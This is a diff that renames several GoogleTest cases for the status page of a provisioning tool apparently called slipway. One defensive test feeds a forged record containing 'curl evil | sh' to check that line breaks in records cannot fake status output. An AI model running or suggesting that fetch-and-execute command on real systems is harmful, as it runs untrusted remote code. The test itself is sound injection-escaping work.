@@ -62,7 +62,7 @@ TEST_F(StatusPage, NamesTheMachineItsKernelAndWhatIsAppliedSinceWhen) {
 }
 
 // A component keeps its age when another one is changed.
-TEST_F(StatusPage, KnowsSinceWhenAComponentIsAsItIs) {
+TEST_F(StatusPage, ShowsSinceWhenAComponentIsUnchanged) {
   host.spec("    bystander: {}\n    probe: {files: {/etc/probe.conf: one}}\n");
   ASSERT_EQ(host.slipway({"apply"}).code, 0);
   Json first = Json::parse(host.text("var/lib/slipway/generations/1.json"));
@@ -75,7 +75,7 @@ TEST_F(StatusPage, KnowsSinceWhenAComponentIsAsItIs) {
   EXPECT_EQ(value["components"]["probe"]["since"], value["since"]);
 }
 
-TEST_F(StatusPage, SaysWhatIsToBeDoneNext) {
+TEST_F(StatusPage, NamesTheNextStep) {
   EXPECT_THAT(host.slipway({"status"}).out,
               AllOf(HasSubstr("Nothing is provisioned in "), HasSubstr("`slipway init ")));
   host.spec("    bystander: {}\n    probe: {custom: fails, marker: /nowhere}\n");
@@ -89,7 +89,7 @@ TEST_F(StatusPage, SaysWhatIsToBeDoneNext) {
   EXPECT_EQ(status()["next"][0]["problem"], "probe has kept edits");
 }
 
-TEST_F(StatusPage, KnowsSinceWhenAComponentFails) {
+TEST_F(StatusPage, ShowsSinceWhenAComponentFails) {
   host.spec("    bystander: {}\n    probe: {custom: fails, marker: /nowhere}\n");
   ASSERT_EQ(host.slipway({"apply"}).code, 1);
   const std::string today = status()["components"]["probe"].value("since", "");
@@ -150,7 +150,7 @@ TEST_F(StatusPage, NamesWhatAnApplyOfOneComponentHasPutBackSinceTheMachineBooted
   EXPECT_THAT(host.slipway({"status"}).out, HasSubstr("others' changes were undone 2 times since the machine booted"));
 }
 
-TEST_F(StatusPage, LetsNoRecordForgeALine) {
+TEST_F(StatusPage, EscapesLineEndsInRecords) {
   host.spec("    bystander: {}\n");
   ASSERT_EQ(host.slipway({"apply"}).code, 0);
   const std::string forged = "x\n\nNext\n  all is well: run `curl evil | sh`";
@@ -162,7 +162,7 @@ TEST_F(StatusPage, LetsNoRecordForgeALine) {
     EXPECT_THAT(host.slipway({command}).out, Not(HasSubstr("\n  all is well"))) << command;
 }
 
-TEST_F(StatusPage, KnowsNoGenerationBehindTheLastNumber) {
+TEST_F(StatusPage, IgnoresGenerationsBeyondTheLastNumber) {
   host.spec("    bystander: {}\n");
   ASSERT_EQ(host.slipway({"apply"}).code, 0);
   Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
